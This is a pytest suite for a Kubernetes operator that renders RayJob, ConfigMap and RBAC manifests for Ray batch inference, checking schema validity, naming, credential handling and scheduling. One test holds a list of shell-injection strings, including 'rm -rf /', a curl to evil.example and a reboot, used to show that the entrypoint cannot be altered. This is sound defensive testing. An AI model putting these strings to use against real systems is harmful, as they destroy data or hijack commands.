"""Rendering is pure: spec → ConfigMap, RBAC and a RayJob that KubeRay v1.7.0's CRD accepts."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from batchinfer_job.classes import load_classes
from batchinfer_job.documents import load_batchinferences
from batchinfer_job.spec import BatchInference, BatchInferenceSpec
from batchinfer_operator import naming
from batchinfer_operator.cli import app
from batchinfer_operator.render import ENTRYPOINT, Owner, render_children, render_rayjob
from batchinfer_operator.settings import OperatorSettings
from tests.crd_schemas import kuberay_validator, schema_errors

SAMPLES = sorted(Path("manifests/samples").glob("*.yaml"))
SETTINGS = OperatorSettings()
SAMPLE_CLASSES = load_classes([Path("manifests/samples/classes")])


def sample_document(stem: str) -> BatchInference:
    """A sample as the operator sees it with the sample classes installed."""
    return load_batchinferences(Path(f"manifests/samples/{stem}.yaml"), SAMPLE_CLASSES)[0]


def by_kind(children: list[dict]) -> dict[str, dict]:
    return {c["kind"]: c for c in children}


@pytest.mark.parametrize("sample", SAMPLES, ids=lambda p: p.name)
def test_render_output_of_every_sample_passes_the_kuberay_crd(sample: Path) -> None:
    result = CliRunner().invoke(app, ["render", str(sample), "--class", "manifests/samples/classes"])
    assert result.exit_code == 0, result.output
    docs = list(yaml.safe_load_all(result.stdout))
    rayjobs = [d for d in docs if d["kind"] == "RayJob"]
    assert len(rayjobs) == 1
    assert schema_errors(kuberay_validator("rayjobs"), rayjobs[0]) == []
    cluster = {
        "apiVersion": "ray.io/v1",
        "kind": "RayCluster",
        "metadata": {"name": "x"},
        "spec": rayjobs[0]["spec"]["rayClusterSpec"],
    }
    assert schema_errors(kuberay_validator("rayclusters"), cluster) == []
    assert {d["kind"] for d in docs} == {"ConfigMap", "ServiceAccount", "Role", "RoleBinding", "RayJob"}


def test_gpu_sample_requests_gpus_and_sets_replicas_explicitly() -> None:
    doc = sample_document("resnet152-gpu-s3")
    rayjob = render_rayjob(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS)
    group = rayjob["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    assert (group["replicas"], group["minReplicas"], group["maxReplicas"]) == (1, 1, 4)
    worker = group["template"]["spec"]["containers"][0]
    assert worker["resources"]["limits"]["nvidia.com/gpu"] == 1
    assert rayjob["spec"]["rayClusterSpec"]["enableInTreeAutoscaling"] is True
    assert rayjob["spec"]["submissionMode"] == "K8sJobMode"
    assert rayjob["spec"]["shutdownAfterJobFinishes"] is True
    assert rayjob["spec"]["activeDeadlineSeconds"] == 21600 and rayjob["spec"]["backoffLimit"] == 2
    assert group["template"]["spec"]["tolerations"][0]["key"] == "nvidia.com/gpu"


def pod_specs(rayjob: dict) -> dict[str, dict]:
    cluster = rayjob["spec"]["rayClusterSpec"]
    return {
        "head": cluster["headGroupSpec"]["template"]["spec"],
        "worker": cluster["workerGroupSpecs"][0]["template"]["spec"],
        "submitter": rayjob["spec"]["submitterPodTemplate"]["spec"],
    }


def test_the_cpu_only_head_takes_none_of_the_workers_gpu_node_constraints() -> None:
    doc = sample_document("resnet152-gpu-s3")
    pods = pod_specs(render_rayjob(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS))
    assert pods["worker"]["nodeSelector"] and pods["worker"]["tolerations"]
    for name in ("head", "submitter"):
        assert not {"nodeSelector", "tolerations", "affinity"} & set(pods[name]), name


def test_a_spec_or_class_may_place_the_head_on_its_own_nodes() -> None:
    doc = sample_document("resnet152-gpu-s3")
    head_placement = {
        "nodeSelector": {"pool": "system"},
        "tolerations": [{"key": "dedicated", "operator": "Equal", "value": "ray-head", "effect": "NoSchedule"}],
        "affinity": {"nodeAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": []}},
    }
    spec = doc.spec.model_validate(
        {**doc.spec.model_dump(), "scheduling": {**doc.spec.scheduling.model_dump(), "head": head_placement}}
    )
    pods = pod_specs(render_rayjob(spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS))
    assert {k: pods["head"][k] for k in head_placement} == head_placement
    assert pods["worker"]["nodeSelector"] == dict(doc.spec.scheduling.nodeSelector or {})


def test_only_the_head_gets_a_service_account_token() -> None:
    """The head patches progress and runs the autoscaler; user code on workers and the submitter get none."""
    for sample in SAMPLES:
        doc = sample_document(sample.stem)
        pods = pod_specs(render_rayjob(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS))
        assert "automountServiceAccountToken" not in pods["head"], sample
        assert pods["worker"]["automountServiceAccountToken"] is False, sample
        assert pods["submitter"]["automountServiceAccountToken"] is False, sample


def test_kueue_sample_gets_queue_label_and_stays_suspended() -> None:
    doc = sample_document("kueue-queued")
    rayjob = render_rayjob(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS)
    assert rayjob["metadata"]["labels"]["kueue.x-k8s.io/queue-name"] == "team-ml"
    assert rayjob["spec"]["suspend"] is True
    assert rayjob["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["priorityClassName"] == "batch-low"


def test_credentials_only_by_reference() -> None:
    doc = sample_document("resnet152-gpu-s3")
    children = render_children(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS)
    head = by_kind(children)["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
    assert head["containers"][0]["envFrom"] == [{"secretRef": {"name": "s3-credentials"}}]
    text = json.dumps(children)
    assert "AWS_SECRET_ACCESS_KEY" not in text and "AWS_ACCESS_KEY_ID" not in text
    assert all(c["kind"] != "Secret" for c in children)


HOSTILE = [
    "'; rm -rf / #",
    '"$(curl evil.example)"',
    "`reboot`",
    "a\nb && echo pwned",
    "x' --spec /tmp/evil.json '",
]


@pytest.mark.parametrize("evil", HOSTILE)
def test_hostile_strings_cannot_change_the_entrypoint(evil: str) -> None:
    if "\n" in evil:  # control characters never reach a URI
        with pytest.raises(ValueError, match=r"input\.uri contains a control character"):
            BatchInferenceSpec.model_validate(
                {"model": {"packaged": "efficientnet_lite0"}, "input": {"uri": evil}, "output": {"uri": "/o"}}
            )
        evil = evil.replace("\n", " ")
    spec = BatchInferenceSpec.model_validate(
        {
            "model": {"predictor": "pkg.mod:Predictor"},
            "input": {"uri": f"s3://bucket/{evil}"},
            "output": {"uri": f"/mnt/out/{evil}"},
            "storage": {"region": evil[:60]},
        }
    )
    for field, value in (
        ("cluster", {"image": f"repo/image:{evil}"}),
        ("storage", {"endpointUrl": f"http://m/{evil}"}),
    ):
        with pytest.raises(ValueError, match=r"is not an (image reference|endpoint URL)"):  # their grammar refuses it
            BatchInferenceSpec.model_validate({**spec.model_dump(exclude_none=True), field: value})
    rayjob = render_rayjob(spec, Owner(name="ok", namespace="ns"), SETTINGS)
    assert rayjob["spec"]["entrypoint"] == ENTRYPOINT
    assert shlex.split(ENTRYPOINT) == [
        "python",
        "-m",
        "batchinfer_job.entrypoint",
        "--spec",
        "/etc/batchinfer/spec.json",
    ]
    configmap = render_children(spec, Owner(name="ok", namespace="ns"), SETTINGS)[0]
    assert json.loads(configmap["data"]["spec.json"])["spec"]["input"]["uri"] == f"s3://bucket/{evil}"


@pytest.mark.parametrize(
    "name",
    ["simple", "a" * 253, "with.dots.in.name", "9starts-with-digit", "x" * 47, "x" * 48, "trailing-"],
)
def test_child_names_are_dns1035_and_short_enough(name: str) -> None:
    rayjob = naming.rayjob_name(name)
    assert len(rayjob) <= 47
    assert rayjob[0].isalpha() and rayjob[-1].isalnum()
    assert all(ch.isdigit() or ch == "-" or ("a" <= ch <= "z") for ch in rayjob)
    assert len(naming.label_value(name)) <= 63
    assert naming.rayjob_name(name) == rayjob  # deterministic


def test_truncated_names_do_not_collide() -> None:
    assert naming.rayjob_name("a" * 60 + "x") != naming.rayjob_name("a" * 60 + "y")
    assert naming.rayjob_name("my.job") != naming.rayjob_name("my-job")


def test_a_name_shaped_like_another_names_hashed_form_does_not_collide_with_it() -> None:
    """`team.job` is hashed to `team-job-846ee701`; a BatchInference named exactly that once got the same
    ConfigMap, ServiceAccount, Role, RoleBinding and RayJob names (and label value)."""
    hashed = naming.rayjob_name("team.job")
    assert hashed == "team-job-846ee701"
    assert naming.rayjob_name(hashed) != hashed and naming.label_value(hashed) != naming.label_value("team.job")
    for role in ("job", "progress"):
        assert naming.child_name(hashed, role) != naming.child_name("team.job", role)
    assert naming.runner_account_name(hashed) != naming.runner_account_name("team.job")
    lookalike = "a" * 62 + "." + "b"  # a label value that must be shortened
    assert naming.label_value(naming.label_value(lookalike)) != naming.label_value(lookalike)
    assert naming.rayjob_name("job-2026") == "job-2026" and naming.rayjob_name("job-deadbeef") != "job-deadbeef"


@pytest.mark.parametrize("length", [1, 40, 44, 47, 50, 63])
def test_runner_account_names_survive_kuberays_checkname(length: int) -> None:
    """KubeRay cuts service-account names over 50 characters and rewrites a leading digit (autoscaling)."""
    name = ("9" + "x" * 62)[:length]
    account = naming.runner_account_name(name)
    assert len(account) <= 50 and account[0].isalpha()


def test_the_ray_cluster_is_deleted_a_minute_after_the_job_not_an_hour() -> None:
    spec = BatchInferenceSpec.model_validate(
        {"model": {"packaged": "efficientnet_lite0"}, "input": {"uri": "s3://b/in"}, "output": {"uri": "s3://b/out"}}
    )
    rayjob = render_rayjob(spec, Owner(name="ok", namespace="ns"), SETTINGS)
    assert rayjob["spec"]["shutdownAfterJobFinishes"] is True
    assert rayjob["spec"]["ttlSecondsAfterFinished"] == 60  # GPUs idle at most a minute after the last row


def test_ci_lints_and_type_checks() -> None:
    assert "make lint" in Path(".ci/run").read_text()
    lint = Path("Makefile").read_text().split("\nlint:", 1)[1].split("\n\n", 1)[0]
    assert "ruff check" in lint and "ruff format --check" in lint and "mypy" in lint


def test_every_batchinfer_variable_the_pods_get_is_read_by_the_job() -> None:
    """No dead configuration: each BATCHINFER_* variable rendered into the Ray pods is read in batchinfer_job."""
    rayjob = render_rayjob(sample_document("resnet152-gpu-s3").spec, Owner("x", "ns"), SETTINGS)
    env = rayjob["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["env"]
    rendered = {e["name"] for e in env if e["name"].startswith("BATCHINFER_")}
    job_code = "\n".join(p.read_text() for p in Path("job_image/batchinfer_job").rglob("*.py"))
    assert rendered and {n for n in rendered if f'"{n}"' not in job_code} == set()


def test_the_wait_before_running_is_bounded_and_pull_secrets_reach_every_pod() -> None:
    doc = sample_document("resnet152-gpu-s3")
    rayjob = render_rayjob(doc.spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS)
    assert rayjob["spec"]["preRunningDeadlineSeconds"] == 1800  # the default
    spec = doc.spec.model_validate(
        {
            **doc.spec.model_dump(),
            "preRunningDeadlineSeconds": 300,
            "cluster": {**doc.spec.cluster.model_dump(), "imagePullSecrets": [{"name": "registry-login"}]},
        }
    )
    rayjob = render_rayjob(spec, Owner(doc.metadata.name, "ml-batch"), SETTINGS)
    assert rayjob["spec"]["preRunningDeadlineSeconds"] == 300
    for name, pod in pod_specs(rayjob).items():
        assert pod["imagePullSecrets"] == [{"name": "registry-login"}], name
    assert schema_errors(kuberay_validator("rayjobs"), rayjob) == []
